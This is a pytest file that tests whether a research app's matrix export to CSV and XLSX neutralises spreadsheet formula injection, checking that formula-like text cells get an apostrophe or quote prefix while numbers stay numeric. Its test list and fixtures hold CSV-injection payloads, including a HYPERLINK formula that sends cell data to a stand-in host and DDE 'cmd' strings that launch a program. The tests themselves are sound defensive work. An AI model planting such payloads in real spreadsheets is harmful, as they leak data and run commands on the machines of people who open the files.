"""Matrix spreadsheets never hand a formula to the program that opens them (OWASP CSV
injection): text cells starting with = + - @ tab or CR get an apostrophe in CSV and Excel's
quote prefix in XLSX, while counts, shares and totals stay numbers."""

from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook

from app.core.displays.matrix import Matrix, build_matrix
from app.core.displays.tables import write_matrix_csv, write_matrix_xlsx
from app.core.files import formula_like, spreadsheet_safe
from app.models import AttributeDefinition, AttributeValue, Coder, Coding, Document
from tests.core.displays import matrix_data as data

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"klikk")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "  =1+1"]


def read_csv(path):
    """The table, without its first line when that is the scope's comment."""
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    return rows[1:] if rows and rows[0][0].startswith("# ") else rows


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_cells_get_an_apostrophe(text):
    assert formula_like(text) and spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Kari", "", "Alna - Stovner", "-1", "+1", "-0.25", "12,5",
                                   3, -2, 0.5, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert not formula_like(value) and spreadsheet_safe(value) == value


@pytest.fixture
def hostile(project):
    """The matrix sample plus a document, a coder and an attribute value that are formulas."""
    data.build(project)
    with project.write() as s:
        text = "Deltaker 1: Hun så på meg.\n"
        doc = Document(name="=1+2", text=text, length=len(text), sha256="h")
        coder = Coder(name="@SUM(1)")
        s.add_all([doc, coder])
        s.flush()
        bydel = s.query(AttributeDefinition).filter_by(name="tjeneste").one()
        s.add(AttributeValue(document_id=doc.id, attribute_id=bydel.id, value="-NAV+1"))
        code = s.query(data.Code).filter_by(name="A").one()
        s.add(Coding(document_id=doc.id, code_id=code.id, coder_id=coder.id, start=12,
                     end=26, valence=-1))
    return project


def test_matrix_csv_neutralises_document_coder_and_attribute_names(hostile, tmp_path):
    with hostile.read() as s:
        by_doc = build_matrix(s, "documents", "coders", "count")
        by_attr = build_matrix(s, "codes", "tjeneste", "count")
        valence = build_matrix(s, "codes", "coders", "valence")
    rows = read_csv(write_matrix_csv(by_doc, tmp_path / "d.csv"))
    assert "'@SUM(1)" in rows[0] and "@SUM(1)" not in rows[0]
    assert [r[0] for r in rows[1:-1]] == ["'=1+2", "fg1", "fg2", "ind3"]
    assert rows[1][rows[0].index("'@SUM(1)")] == "1"  # counts are still plain numbers
    rows = read_csv(write_matrix_csv(by_attr, tmp_path / "a.csv"))
    assert "'-NAV+1" in rows[0]
    rows = read_csv(write_matrix_csv(valence, tmp_path / "v.csv"))
    assert all(not cell.startswith(("+", "-", "=", "@")) for row in rows for cell in row)


def test_matrix_quotes_starting_with_a_formula_are_neutralised(tmp_path):
    quote = {"text": "=cmd|' /C calc'!A0", "document": "fg1"}
    m = Matrix(["A"], ["Alna"], "quotes", [[[quote]]], [[quote]], [[quote]], [[quote]])
    rows = read_csv(write_matrix_csv(m, tmp_path / "q.csv"))
    assert rows[1][1] == "«=cmd|' /C calc'!A0» (fg1)"  # starts with « : nothing to do
    m.rows = ["-A"]
    assert read_csv(write_matrix_csv(m, tmp_path / "q.csv"))[1][0] == "'-A"


def test_matrix_xlsx_keeps_the_text_and_marks_it_as_text(hostile, tmp_path):
    with hostile.read() as s:
        m = build_matrix(s, "documents", "tjeneste", "count")
        share = build_matrix(s, "documents", "tjeneste", "share")
    write_matrix_xlsx(m, tmp_path / "m.xlsx", "=TITLE()")
    ws = load_workbook(tmp_path / "m.xlsx").active
    assert ws["A1"].value == "=TITLE()" and ws["A1"].data_type == "s" and ws["A1"].quotePrefix
    labels = {c.value: c for c in ws["A"]}
    assert labels["=1+2"].data_type == "s" and labels["=1+2"].quotePrefix
    assert not labels["fg1"].quotePrefix
    header = {c.value: c for c in ws[3]}  # under the title and the scope note
    assert header["-NAV+1"].quotePrefix and header["-NAV+1"].data_type == "s"
    assert all(isinstance(c.value, int) for c in ws[4][1:])  # counts stay numbers
    write_matrix_xlsx(share, tmp_path / "s.xlsx", "Andel")
    ws = load_workbook(tmp_path / "s.xlsx").active
    assert all(isinstance(c.value, (int, float)) and not c.quotePrefix for c in ws[4][1:])
